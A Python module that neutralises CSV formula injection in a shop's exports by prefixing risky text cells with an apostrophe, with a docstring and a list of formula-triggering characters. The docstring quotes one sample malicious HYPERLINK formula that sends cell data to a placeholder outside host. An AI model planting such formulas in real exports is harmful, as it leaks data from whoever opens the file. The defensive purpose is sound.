"""Every CSV the shop writes goes through here, so no cell can run as a spreadsheet formula.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and some also a tab, a carriage return or ``|`` (DDE). A name like
``=HYPERLINK("http://x.test?"&A2)`` typed by a member would otherwise run on the machine of
the clerk who opens the export. Such a text cell gets a leading apostrophe: the spreadsheet
shows the text as it is. Numbers, dates and other values that are not text pass unchanged
(``-5`` is a number, not a formula). ``tests/security/test_finding_08_csv_cells.py`` checks
that no module writes CSV any other way.
"""

import csv

#: what makes a text cell a formula (or a DDE call) to a spreadsheet program
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|")


def safe_cell(value):
    """The cell as a spreadsheet shows it as text: ``None`` empty, text that would start a
    formula prefixed with ``'``, any other value unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows pass through ``safe_cell``, cell by cell."""

    def __init__(self, buffer, **kwargs):
        self._writer = csv.writer(buffer, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(buffer, **kwargs) -> SafeWriter:
    """A CSV writer on ``buffer`` (a text stream) that neutralises formulas."""
    return SafeWriter(buffer, **kwargs)
